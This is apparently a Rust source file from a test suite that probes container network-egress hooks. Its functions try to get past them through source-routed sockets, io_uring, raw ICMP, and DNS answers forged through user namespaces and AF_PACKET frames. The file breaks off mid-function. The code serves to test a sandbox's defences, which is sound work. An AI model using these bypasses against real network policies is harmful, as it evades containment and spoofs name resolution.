//! The socket paths of the bypass suite: each tries one way around the
//! hooks and prints one word (`ok`, `reply`, or the errno name).

use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket},
    os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd},
    time::Duration,
};

use super::{checksum, connect, errno_name, TIMEOUT};

fn last_error() -> String {
    errno_name(&std::io::Error::last_os_error())
}

/// A socket(2) of this family, type and protocol, or the errno name.
fn socket(family: i32, kind: i32, protocol: i32) -> Result<OwnedFd, String> {
    // SAFETY: plain syscall; the descriptor is owned by the result.
    let fd = unsafe { libc::socket(family, kind, protocol) };
    if fd < 0 {
        return Err(last_error());
    }
    // SAFETY: just returned by socket(2).
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    set_timeouts(fd.as_raw_fd());
    Ok(fd)
}

fn set_timeouts(fd: RawFd) {
    let tv = libc::timeval { tv_sec: TIMEOUT.as_secs() as i64, tv_usec: 0 };
    for option in [libc::SO_RCVTIMEO, libc::SO_SNDTIMEO] {
        // SAFETY: valid fd and option value.
        unsafe { libc::setsockopt(fd, libc::SOL_SOCKET, option, &tv as *const _ as *const _, size_of_val(&tv) as u32) };
    }
}

/// A sockaddr for `addr`:`port` (v4 or v6) and its length.
fn sockaddr(addr: IpAddr, port: u16) -> (libc::sockaddr_storage, u32) {
    // SAFETY: all-zero is a valid sockaddr_storage.
    let mut storage: libc::sockaddr_storage = unsafe { std::mem::zeroed() };
    let len = match addr {
        IpAddr::V4(v4) => {
            let sin = libc::sockaddr_in {
                sin_family: libc::AF_INET as u16,
                sin_port: port.to_be(),
                sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(v4.octets()) },
                sin_zero: [0; 8],
            };
            // SAFETY: sockaddr_storage is larger than sockaddr_in.
            unsafe { std::ptr::write(&mut storage as *mut _ as *mut libc::sockaddr_in, sin) };
            size_of::<libc::sockaddr_in>()
        }
        IpAddr::V6(v6) => {
            let sin6 = libc::sockaddr_in6 {
                sin6_family: libc::AF_INET6 as u16,
                sin6_port: port.to_be(),
                sin6_flowinfo: 0,
                sin6_addr: libc::in6_addr { s6_addr: v6.octets() },
                sin6_scope_id: 0,
            };
            // SAFETY: as above.
            unsafe { std::ptr::write(&mut storage as *mut _ as *mut libc::sockaddr_in6, sin6) };
            size_of::<libc::sockaddr_in6>()
        }
    };
    (storage, len as u32)
}

fn family_of(addr: IpAddr) -> i32 {
    if addr.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    }
}

fn connect_fd(fd: RawFd, addr: IpAddr, port: u16) -> Result<(), String> {
    let (sa, len) = sockaddr(addr, port);
    // SAFETY: valid fd and sockaddr.
    if unsafe { libc::connect(fd, &sa as *const _ as *const libc::sockaddr, len) } < 0 {
        return Err(last_error());
    }
    Ok(())
}

/// Writes a line and reads the echo: proof the exchange happened.
fn echo(fd: RawFd) -> String {
    let msg = b"ram-probe\n";
    // SAFETY: valid fd and buffer.
    if unsafe { libc::send(fd, msg.as_ptr() as *const _, msg.len(), libc::MSG_NOSIGNAL) } < 0 {
        return last_error();
    }
    let mut buf = [0u8; 64];
    // SAFETY: as above.
    let n = unsafe { libc::recv(fd, buf.as_mut_ptr() as *mut _, buf.len(), 0) };
    if n <= 0 {
        return if n == 0 { "closed".into() } else { last_error() };
    }
    "ok".into()
}

/// A TCP echo server and UDP echo server on ADDR:PORT, until killed.
pub fn listen(addr: IpAddr, port: u16) -> ! {
    let tcp = TcpListener::bind(SocketAddr::new(addr, port)).expect("tcp bind");
    let udp = UdpSocket::bind(SocketAddr::new(addr, port)).expect("udp bind");
    std::thread::spawn(move || {
        let mut buf = [0u8; 2048];
        while let Ok((n, from)) = udp.recv_from(&mut buf) {
            let _ = udp.send_to(&buf[..n], from);
        }
    });
    for stream in tcp.incoming().flatten() {
        std::thread::spawn(move || {
            let mut stream = stream;
            let mut buf = [0u8; 2048];
            while let Ok(n) = stream.read(&mut buf) {
                if n == 0 || stream.write_all(&buf[..n]).is_err() {
                    break;
                }
            }
        });
    }
    std::process::exit(0)
}

/// connect() on a UDP socket, then an echo through it.
pub fn udp_connect(addr: IpAddr, port: u16) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_DGRAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
        return e;
    }
    echo(fd.as_raw_fd())
}

/// An AF_INET destination given to an AF_INET6 socket: UDP sendto and TCP
/// connect.
pub fn inet_on_inet6(addr: IpAddr, port: u16) -> String {
    let (sa, len) = sockaddr(addr, port);
    let udp = match socket(libc::AF_INET6, libc::SOCK_DGRAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let msg = b"ram-probe";
    // SAFETY: valid fd, buffer and sockaddr.
    let sent = unsafe {
        libc::sendto(udp.as_raw_fd(), msg.as_ptr() as *const _, msg.len(), 0, &sa as *const _ as *const _, len)
    };
    let udp_result = if sent < 0 { last_error() } else { "ok".into() };
    let tcp = match socket(libc::AF_INET6, libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    // SAFETY: as above.
    let rc = unsafe { libc::connect(tcp.as_raw_fd(), &sa as *const _ as *const _, len) };
    let tcp_result = if rc < 0 { last_error() } else { "ok".into() };
    format!("udp:{udp_result} tcp:{tcp_result}")
}

/// TCP Fast Open with sendto(MSG_FASTOPEN): connect and data in one call.
pub fn tfo_sendto(addr: IpAddr, port: u16) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let (sa, len) = sockaddr(addr, port);
    let msg = b"ram-probe\n";
    // SAFETY: valid fd, buffer and sockaddr.
    let sent = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            msg.as_ptr() as *const _,
            msg.len(),
            libc::MSG_FASTOPEN,
            &sa as *const _ as *const _,
            len,
        )
    };
    if sent < 0 {
        return last_error();
    }
    let mut buf = [0u8; 64];
    // SAFETY: valid fd and buffer.
    let n = unsafe { libc::recv(fd.as_raw_fd(), buf.as_mut_ptr() as *mut _, buf.len(), 0) };
    if n <= 0 {
        return last_error();
    }
    "ok".into()
}

/// TCP_FASTOPEN_CONNECT: connect() returns at once, the SYN leaves with
/// the first write.
pub fn tfo_connect(addr: IpAddr, port: u16) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let one: i32 = 1;
    // SAFETY: valid fd and option value.
    let rc = unsafe {
        libc::setsockopt(fd.as_raw_fd(), libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &one as *const _ as *const _, 4)
    };
    if rc < 0 {
        return last_error();
    }
    if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
        return e;
    }
    echo(fd.as_raw_fd())
}

/// An MPTCP connection.
pub fn mptcp_connect(addr: IpAddr, port: u16) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_STREAM, libc::IPPROTO_MPTCP) {
        Ok(fd) => fd,
        Err(e) => return format!("socket:{e}"),
    };
    if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
        return e;
    }
    echo(fd.as_raw_fd())
}

/// connect() and sendmsg() submitted through io_uring.
pub fn uring(op: &str, addr: IpAddr, port: u16) -> String {
    use io_uring::{opcode, types, IoUring};
    let mut ring = match IoUring::new(8) {
        Ok(ring) => ring,
        Err(e) => return format!("io_uring:{}", errno_name(&e)),
    };
    let (sa, len) = sockaddr(addr, port);
    let kind = if op == "connect" { libc::SOCK_STREAM } else { libc::SOCK_DGRAM };
    let fd = match socket(family_of(addr), kind, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let payload = *b"ram-probe";
    let mut iov = libc::iovec { iov_base: payload.as_ptr() as *mut _, iov_len: payload.len() };
    // SAFETY: zeroed msghdr is valid; filled below.
    let mut msghdr: libc::msghdr = unsafe { std::mem::zeroed() };
    msghdr.msg_name = &sa as *const _ as *mut _;
    msghdr.msg_namelen = len;
    msghdr.msg_iov = &mut iov;
    msghdr.msg_iovlen = 1;
    let entry = if op == "connect" {
        opcode::Connect::new(types::Fd(fd.as_raw_fd()), &sa as *const _ as *const _, len).build()
    } else {
        opcode::SendMsg::new(types::Fd(fd.as_raw_fd()), &msghdr).build()
    };
    // SAFETY: every buffer the entry points at lives until completion below.
    if unsafe { ring.submission().push(&entry) }.is_err() {
        return "queue-full".into();
    }
    if let Err(e) = ring.submit_and_wait(1) {
        return errno_name(&e);
    }
    let Some(done) = ring.completion().next() else { return "no-completion".into() };
    match done.result() {
        r if r < 0 => errno_name(&std::io::Error::from_raw_os_error(-r)),
        _ if op == "connect" => echo(fd.as_raw_fd()),
        _ => "ok".into(),
    }
}

/// An ICMP echo through a ping socket (SOCK_DGRAM, IPPROTO_ICMP).
pub fn ping_socket(addr: IpAddr) -> String {
    let IpAddr::V4(_) = addr else { return "unsupported".into() };
    let fd = match socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP) {
        Ok(fd) => fd,
        Err(e) => return format!("socket:{e}"),
    };
    let (sa, len) = sockaddr(addr, 0);
    let packet = [8u8, 0, 0, 0, 0, 0, 0, 1, b'r', b'a', b'm'];
    // SAFETY: valid fd, buffer and sockaddr.
    let sent = unsafe {
        libc::sendto(fd.as_raw_fd(), packet.as_ptr() as *const _, packet.len(), 0, &sa as *const _ as *const _, len)
    };
    if sent < 0 {
        return last_error();
    }
    let mut buf = [0u8; 64];
    // SAFETY: valid fd and buffer.
    let n = unsafe { libc::recv(fd.as_raw_fd(), buf.as_mut_ptr() as *mut _, buf.len(), 0) };
    if n > 0 && buf[0] == 0 {
        "reply".into()
    } else {
        "no-reply".into()
    }
}

/// connect() to DEST with an IPv4 loose source route through HOP: the SYN
/// is addressed to HOP.
pub fn lsrr_connect(dest: IpAddr, hop: IpAddr, port: u16, when: RouteSet) -> String {
    let IpAddr::V4(hop4) = hop else { return "unsupported".into() };
    let fd = match socket(libc::AF_INET, libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    // NOP, then LSRR: type 131, length 7, pointer 4, one hop address.
    let mut options = vec![1u8, 131, 7, 4];
    options.extend_from_slice(&hop4.octets());
    connect_with_option(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options, dest, port, when)
}

/// connect() to DEST with an IPv4 loose source route through HOPS (the first
/// is the header's destination), after NOOPS one-byte NOOP options: a
/// route hidden deep in the option list.
pub fn lsrr_padded(dest: IpAddr, noops: usize, hops: &[IpAddr], port: u16) -> String {
    let fd = match socket(libc::AF_INET, libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let mut options = vec![1u8; noops];
    options.extend_from_slice(&[131, 3 + 4 * hops.len() as u8, 4]);
    for hop in hops {
        let IpAddr::V4(v4) = hop else { return "unsupported".into() };
        options.extend_from_slice(&v4.octets());
    }
    // The option list is padded to a multiple of four bytes by the kernel.
    connect_with_option(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options, dest, port, RouteSet::BeforeConnect)
}

/// An ICMPv6 message of type KIND (e.g. 137, a redirect) with a payload,
/// from a raw socket to ADDR: "sent" or the errno name.
pub fn raw_icmp6(addr: IpAddr, kind: u8) -> String {
    let fd = match socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    let mut packet = vec![kind, 0, 0, 0, 0, 0, 0, 0];
    packet.extend_from_slice(b"ram-probe payload");
    // The kernel fills in an ICMPv6 checksum.
    send_raw(&fd, &packet, addr)
}

/// Sends `packet` on a raw socket to ADDR: "sent" or the errno name.
fn send_raw(fd: &OwnedFd, packet: &[u8], addr: IpAddr) -> String {
    let (sa, len) = sockaddr(addr, 0);
    // SAFETY: valid fd, buffer and sockaddr.
    let sent = unsafe {
        libc::sendto(fd.as_raw_fd(), packet.as_ptr() as *const _, packet.len(), 0, &sa as *const _ as *const _, len)
    };
    if sent < 0 {
        last_error()
    } else {
        "sent".into()
    }
}

/// A raw ICMP socket made now, used after MS milliseconds to send an echo
/// reply (a type the kernel's own control sockets send) with a payload.
pub fn raw_icmp_reply_after(addr: IpAddr, ms: u64) -> String {
    let fd = match socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    std::thread::sleep(std::time::Duration::from_millis(ms));
    let mut packet = vec![0u8, 0, 0, 0, 0, 0, 0, 0];
    packet.extend_from_slice(b"ram-probe payload");
    let sum = checksum(&packet);
    packet[2..4].copy_from_slice(&sum.to_be_bytes());
    send_raw(&fd, &packet, addr)
}

/// One connected UDP socket: an echo, MS milliseconds, another echo.
pub fn udp_echo_pair(addr: IpAddr, port: u16, ms: u64) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_DGRAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
        return e;
    }
    let first = echo(fd.as_raw_fd());
    std::thread::sleep(std::time::Duration::from_millis(ms));
    format!("{first} {}", echo(fd.as_raw_fd()))
}

/// When a source route is set relative to connect().
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum RouteSet {
    BeforeConnect,
    /// Connect and echo once (the peer is allowed), then set the route and
    /// echo again: the later segments leave for the route's first hop.
    AfterConnect,
}

/// Sets a socket option on `fd` before or after connecting, and echoes.
fn connect_with_option(
    fd: &OwnedFd,
    level: i32,
    option: i32,
    value: &[u8],
    dest: IpAddr,
    port: u16,
    when: RouteSet,
) -> String {
    let set = || {
        // SAFETY: valid fd and option buffer.
        let rc =
            unsafe { libc::setsockopt(fd.as_raw_fd(), level, option, value.as_ptr() as *const _, value.len() as u32) };
        if rc < 0 {
            Err(format!("setsockopt:{}", last_error()))
        } else {
            Ok(())
        }
    };
    if when == RouteSet::BeforeConnect {
        if let Err(e) = set() {
            return e;
        }
    }
    if let Err(e) = connect_fd(fd.as_raw_fd(), dest, port) {
        return e;
    }
    if when == RouteSet::AfterConnect {
        let first = echo(fd.as_raw_fd());
        if first != "ok" {
            return format!("first-echo:{first}");
        }
        if let Err(e) = set() {
            return e;
        }
        if level == libc::IPPROTO_IP {
            // TCP keeps the route it cached at connect() (to the peer) until
            // something resets it; a new IP_TOS does, and the next segment
            // is routed to the source route's first hop.
            let tos: libc::c_int = 0x10;
            // SAFETY: valid fd and option value.
            let rc = unsafe { libc::setsockopt(fd.as_raw_fd(), level, libc::IP_TOS, &tos as *const _ as *const _, 4) };
            if rc < 0 {
                return format!("setsockopt:{}", last_error());
            }
        }
    }
    echo(fd.as_raw_fd())
}

/// connect() to DEST6 with a segment routing header whose first segment is
/// HOP6: the packet is addressed to HOP6.
pub fn srh_connect(dest: IpAddr, hop: IpAddr, port: u16, when: RouteSet) -> String {
    let (IpAddr::V6(dest6), IpAddr::V6(hop6)) = (dest, hop) else { return "unsupported".into() };
    let fd = match socket(libc::AF_INET6, libc::SOCK_STREAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    // SRH: next header (filled by the kernel), hdr ext len 4 (two
    // segments), routing type 4, segments left 1, last entry 1, flags, tag.
    // Segments are in reverse order: [0] = final destination.
    let mut srh = vec![0u8, 4, 4, 1, 1, 0, 0, 0];
    srh.extend_from_slice(&dest6.octets());
    srh.extend_from_slice(&hop6.octets());
    connect_with_option(&fd, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &srh, dest, port, when)
}

/// Resolves NAME the way programs do (getaddrinfo: /etc/hosts first) and
/// connects.
pub fn connect_name(name: &str, port: u16) -> String {
    let addr = match (name, port).to_socket_addrs().map(|mut a| a.next()) {
        Ok(Some(addr)) => addr,
        Ok(None) => return "no-address".into(),
        Err(e) => return format!("resolve-failed:{e}"),
    };
    match TcpStream::connect_timeout(&addr, TIMEOUT) {
        Ok(_) => format!("{} ok", addr.ip()),
        Err(e) => format!("{} {}", addr.ip(), errno_name(&e)),
    }
}

/// Waits SECONDS for one datagram on PORT: `got N` or `nothing`.
pub fn await_udp(port: u16, seconds: u64) -> String {
    let socket = UdpSocket::bind(("0.0.0.0", port)).expect("bind");
    socket.set_read_timeout(Some(Duration::from_secs(seconds))).expect("timeout");
    let mut buf = [0u8; 2048];
    match socket.recv_from(&mut buf) {
        Ok((n, _)) => format!("got {n}"),
        Err(_) => "nothing".into(),
    }
}

/// Sends a DNS answer nobody asked for: NAME is at IP, from SRC:SPORT to
/// DST:DPORT, with transaction id 0x4242.
pub fn forge_answer(src: IpAddr, sport: u16, dst: IpAddr, dport: u16, name: &str, ip: IpAddr) -> String {
    use hickory_proto::{
        op::{Message, MessageType, OpCode, Query},
        rr::{rdata::A, Name, RData, Record, RecordType},
    };
    let IpAddr::V4(v4) = ip else { return "unsupported".into() };
    let owner = Name::from_ascii(name).expect("name");
    let mut msg = Message::new(0x4242, MessageType::Response, OpCode::Query);
    msg.add_query(Query::query(owner.clone(), RecordType::A));
    msg.add_answer(Record::from_rdata(owner, 300, RData::A(A(v4))));
    let bytes = msg.to_vec().expect("encode");
    let socket = match UdpSocket::bind((src, sport)) {
        Ok(s) => s,
        Err(e) => return format!("bind:{}", errno_name(&e)),
    };
    match socket.send_to(&bytes, (dst, dport)) {
        Ok(_) => "sent".into(),
        Err(e) => errno_name(&e),
    }
}

/// A TCP connection that lives across SECONDS of idleness: connect, echo,
/// wait, echo again.
pub fn hold_tcp(addr: IpAddr, port: u16, seconds: u64) -> String {
    let mut stream = match TcpStream::connect_timeout(&SocketAddr::new(addr, port), TIMEOUT) {
        Ok(s) => s,
        Err(e) => return errno_name(&e),
    };
    let first = echo(stream.as_raw_fd());
    std::thread::sleep(Duration::from_secs(seconds));
    let second = echo(stream.as_raw_fd());
    let _ = stream.flush();
    format!("{first} {second}")
}

/// A UDP send with an IP-level control message (a traffic class, as QUIC
/// stacks set): on a socket connected to ADDR (no address in the send),
/// or, with `connected` false, on an unconnected socket with ADDR as the
/// send's address. Then the echo.
pub fn udp_cmsg(addr: IpAddr, port: u16, connected: bool) -> String {
    let fd = match socket(family_of(addr), libc::SOCK_DGRAM, 0) {
        Ok(fd) => fd,
        Err(e) => return e,
    };
    if connected {
        if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
            return format!("connect:{e}");
        }
    }
    let (level, kind) =
        if addr.is_ipv4() { (libc::IPPROTO_IP, libc::IP_TOS) } else { (libc::IPPROTO_IPV6, libc::IPV6_TCLASS) };
    let value: libc::c_int = 0x20;
    // SAFETY: CMSG_SPACE is a pure computation.
    let space = unsafe { libc::CMSG_SPACE(size_of::<libc::c_int>() as u32) } as usize;
    let mut control = vec![0u8; space];
    let mut payload = *b"ram-probe\n";
    let mut iov = libc::iovec { iov_base: payload.as_mut_ptr() as *mut _, iov_len: payload.len() };
    let (mut name, name_len) = sockaddr(addr, port);
    // SAFETY: all-zero is a valid msghdr; every pointer set below outlives the call.
    let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
    if !connected {
        msg.msg_name = &mut name as *mut _ as *mut _;
        msg.msg_namelen = name_len;
    }
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control.as_mut_ptr() as *mut _;
    msg.msg_controllen = space;
    // SAFETY: the control buffer holds one header of this size.
    unsafe {
        let cmsg = libc::CMSG_FIRSTHDR(&msg);
        (*cmsg).cmsg_level = level;
        (*cmsg).cmsg_type = kind;
        (*cmsg).cmsg_len = libc::CMSG_LEN(size_of::<libc::c_int>() as u32) as usize;
        std::ptr::write_unaligned(libc::CMSG_DATA(cmsg) as *mut libc::c_int, value);
    }
    // SAFETY: valid fd and message.
    if unsafe { libc::sendmsg(fd.as_raw_fd(), &msg, 0) } < 0 {
        return last_error();
    }
    let mut buf = [0u8; 64];
    // SAFETY: valid fd and buffer.
    let n = unsafe { libc::recv(fd.as_raw_fd(), buf.as_mut_ptr() as *mut _, buf.len(), 0) };
    if n <= 0 {
        return if n == 0 { "closed".into() } else { last_error() };
    }
    "ok".into()
}

/// In a network namespace of its own (made with a user namespace, as an
/// unprivileged process can; as root where user namespaces are off), a
/// child owns RESOLVER:53 and answers its own query for NAME with FORGED.
/// Then this process, in the original namespace, connects to FORGED:PORT.
/// Prints how the namespace was made, whether the forged answer arrived,
/// and the connect's outcome.
pub fn forge_in_own_netns(resolver: IpAddr, name: &str, forged: IpAddr, port: u16) -> String {
    let made = match own_netns_child(resolver, name, forged, true) {
        0 => "an unprivileged user namespace: forged answer delivered".to_string(),
        // Step 13 and before: the namespace itself could not be made that
        // way (user namespaces off); as root it can.
        refused if (11..=16).contains(&refused) => match own_netns_child(resolver, name, forged, false) {
            0 => format!("a namespace made as root (unprivileged: step {refused}): forged answer delivered"),
            step => format!("a namespace made as root (unprivileged: step {refused}): forging stopped at step {step}"),
        },
        step => format!("an unprivileged user namespace: forging stopped at step {step}"),
    };
    format!("{made}, then connect {}", connect(forged, port))
}

/// The same self-answer in this process's own namespace, from the
/// resolver's address and port 53 when nothing else holds them; then the
/// connect to FORGED:PORT.
pub fn forge_as_resolver(resolver: IpAddr, name: &str, forged: IpAddr, port: u16) -> String {
    let answered = match forge_child(resolver, name, forged, Namespace::Same) {
        Ok(()) => "forged answer delivered".to_string(),
        Err(step) => format!("forging stopped at step {step}"),
    };
    format!("{answered}, then connect {}", connect(forged, port))
}

/// Forks the forging child; its exit code (0: the forged answer arrived).
fn own_netns_child(resolver: IpAddr, name: &str, forged: IpAddr, unprivileged: bool) -> i32 {
    // SAFETY: the probe is single-threaded here; the child exits without
    // returning into the parent's state.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return -1;
    }
    if pid == 0 {
        let namespace = if unprivileged { Namespace::Unprivileged } else { Namespace::AsRoot };
        let code = forge_child(resolver, name, forged, namespace).map_or_else(|code| code, |()| 0);
        // SAFETY: leaves the child at once.
        unsafe { libc::_exit(code) };
    }
    let mut status = 0;
    // SAFETY: waits for the child just forked.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -2
    }
}

/// Where the forging child answers itself.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Namespace {
    /// A user and network namespace of its own, as nobody.
    Unprivileged,
    /// A network namespace of its own, as root.
    AsRoot,
    /// The namespace it is in.
    Same,
}

fn forge_child(resolver: IpAddr, name: &str, forged: IpAddr, namespace: Namespace) -> Result<(), i32> {
    if namespace != Namespace::Same {
        own_namespace(namespace == Namespace::Unprivileged)?;
    }
    forge_answer_to_self(resolver, name, forged)
}

/// Makes (as root) and enters a network namespace with loopback up.
pub fn enter_own_netns() -> Result<(), i32> {
    own_namespace(false)
}

/// Makes and enters a network namespace with loopback up.
fn own_namespace(unprivileged: bool) -> Result<(), i32> {
    // SAFETY: plain system calls in the forked child.
    unsafe {
        if unprivileged {
            if libc::setgid(65534) != 0 || libc::setuid(65534) != 0 {
                return Err(11);
            }
            // A process that dropped root is not dumpable, so its /proc
            // files (uid_map among them) stay root's; make it dumpable.
            libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNET) != 0 {
                return Err(12);
            }
            for (file, text) in [
                ("/proc/self/uid_map", "0 65534 1"),
                ("/proc/self/setgroups", "deny"),
                ("/proc/self/gid_map", "0 65534 1"),
            ] {
                if std::fs::write(file, text).is_err() {
                    return Err(13);
                }
            }
        } else if libc::unshare(libc::CLONE_NEWNET) != 0 {
            return Err(14);
        }
        // Loopback up in the new namespace.
        let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        let mut req: libc::ifreq = std::mem::zeroed();
        req.ifr_name[..3].copy_from_slice(&[b'l' as libc::c_char, b'o' as libc::c_char, 0]);
        if libc::ioctl(fd, libc::SIOCGIFFLAGS, &mut req) != 0 {
            return Err(15);
        }
        req.ifr_ifru.ifru_flags |= libc::IFF_UP as i16;
        if libc::ioctl(fd, libc::SIOCSIFFLAGS, &req) != 0 {
            return Err(16);
        }
        libc::close(fd);
    }
    Ok(())
}

fn forge_answer_to_self(resolver: IpAddr, name: &str, forged: IpAddr) -> Result<(), i32> {
    use hickory_proto::rr::RecordType;
    let IpAddr::V4(forged) = forged else { return Err(10) };
    // One socket, bound to the resolver's address and port: it sends the
    // query to itself and answers itself (every send goes to a resolver's
    // port 53, which the hooks let through).
    let socket = UdpSocket::bind((resolver, 53)).map_err(|_| 17)?;
    socket.connect((resolver, 53)).map_err(|_| 18)?;
    let _ = socket.set_read_timeout(Some(TIMEOUT));
    let query = super::stream::query(0x4242, name, RecordType::A).to_vec().map_err(|_| 21)?;
    socket.send(&query).map_err(|_| 22)?;
    let mut buf = [0u8; 512];
    socket.recv(&mut buf).map_err(|_| 23)?;
    socket.send(&super::stream::answer(0x4242, name, forged)).map_err(|_| 25)?;
    socket.recv(&mut buf).map_err(|_| 26)?;
    Ok(())
}

/// Red team: with CAP_NET_RAW (which `docker run` grants by default), a
/// process asks RESOLVER:53 for NAME from 127.0.0.1 (nothing need listen
/// there: the query is recorded at egress all the same), then writes the
/// answer (NAME is at FORGED, from RESOLVER port 53) itself as a frame on
/// `lo` through an AF_PACKET socket, which no cgroup hook sees; the answer
/// arrives at the querying socket through cgroup ingress. Then connect to
/// FORGED:PORT.
pub fn packet_forge(resolver: IpAddr, name: &str, forged: IpAddr, port: u16, client_addr: IpAddr) -> String {
    use hickory_proto::rr::RecordType;
    let (IpAddr::V4(resolver4), IpAddr::V4(forged4)) = (resolver, forged) else { return "unsupported".into() };
    let IpAddr::V4(client4) = client_addr else { return "unsupported".into() };
    let client = match UdpSocket::bind((client4, 0)) {
        Ok(s) => s,
        Err(e) => return format!("bind:{}", errno_name(&e)),
    };
    let _ = client.set_read_timeout(Some(TIMEOUT));
    let client_port = client.local_addr().expect("local").port();
    let id = 0x5151;
    let query = super::stream::query(id, name, RecordType::A).to_vec().expect("query");
    if let Err(e) = client.send_to(&query, (resolver, 53)) {
        return format!("query:{}", errno_name(&e));
    }
    let answer = super::stream::answer(id, name, forged4);
    // IPv4 + UDP (checksum 0: none) + the answer.
    let total = 20 + 8 + answer.len();
    let mut packet = vec![0u8; total];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(total as u16).to_be_bytes());
    packet[6] = 0x40;
    packet[8] = 64;
    packet[9] = libc::IPPROTO_UDP as u8;
    packet[12..16].copy_from_slice(&resolver4.octets());
    packet[16..20].copy_from_slice(&client4.octets());
    let sum = checksum(&packet[..20]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet[20..22].copy_from_slice(&53u16.to_be_bytes());
    packet[22..24].copy_from_slice(&client_port.to_be_bytes());
    packet[24..26].copy_from_slice(&((8 + answer.len()) as u16).to_be_bytes());
    packet[28..].copy_from_slice(&answer);
    let fd = match socket(libc::AF_PACKET, libc::SOCK_DGRAM, (libc::ETH_P_IP as u16).to_be() as i32) {
        Ok(fd) => fd,
        Err(e) => return format!("packet-socket:{e}"),
    };
    // SAFETY: a NUL-terminated name.
    let ifindex = unsafe { libc::if_nametoindex(c"lo".as_ptr()) };
    // SAFETY: all-zero is a valid sockaddr_ll.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
    sll.sll_ifindex = ifindex as i32;
    sll.sll_halen = 6;
    // SAFETY: valid fd, buffer and address.
    let sent = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            packet.as_ptr() as *const _,
            packet.len(),
            0,
            &sll as *const _ as *const libc::sockaddr,
            size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    if sent < 0 {
        return format!("packet-send:{}", last_error());
    }
    let mut buf = [0u8; 512];
    let delivered = match client.recv_from(&mut buf) {
        Ok((_, from)) => format!("forged answer delivered from {from}"),
        Err(e) => format!("no answer:{}", errno_name(&e)),
    };
    format!("{delivered}, then connect {}", connect(forged, port))
}

/// Red team 2: a held container WITHOUT CAP_NET_RAW (dropped to nobody
/// here, stricter than a container's root with `--cap-drop NET_RAW`) makes
/// a user and network namespace of its own, where it holds CAP_NET_RAW
/// over that namespace, and forges the answer there through AF_PACKET on
/// that namespace's `lo` (see `packet_forge`). Container targets trust DNS
/// sockets in any namespace. Then this process, back in the container's
/// own namespace, connects to FORGED:PORT.
pub fn userns_packet_forge(resolver: IpAddr, name: &str, forged: IpAddr, port: u16, client: IpAddr) -> String {
    // SAFETY: single-threaded here; the child exits without returning.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        let out = match own_namespace(true) {
            Ok(()) => {
                // Root of its own user namespace: CAP_NET_ADMIN over its
                // own network namespace; give lo the client's address.
                let ip = std::process::Command::new("ip")
                    .args(["addr", "add", &format!("{client}/32"), "dev", "lo"])
                    .status();
                let route = std::process::Command::new("ip")
                    .args(["route", "add", &format!("{resolver}/32"), "dev", "lo", "src", &client.to_string()])
                    .status();
                format!("ip addr: {ip:?}, route: {route:?}; {}", packet_forge(resolver, name, forged, 9, client))
            }
            Err(step) => format!("own namespace failed at step {step}"),
        };
        let _ = std::fs::write("/tmp/red2-child.txt", &out);
        let code = if out.contains("forged answer delivered") { 0 } else { 1 };
        // SAFETY: leaves the child at once.
        unsafe { libc::_exit(code) };
    }
    let mut status = 0;
    // SAFETY: waits for the child just forked.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    let child = std::fs::read_to_string("/tmp/red2-child.txt").unwrap_or_default();
    let _ = std::fs::remove_file("/tmp/red2-child.txt");
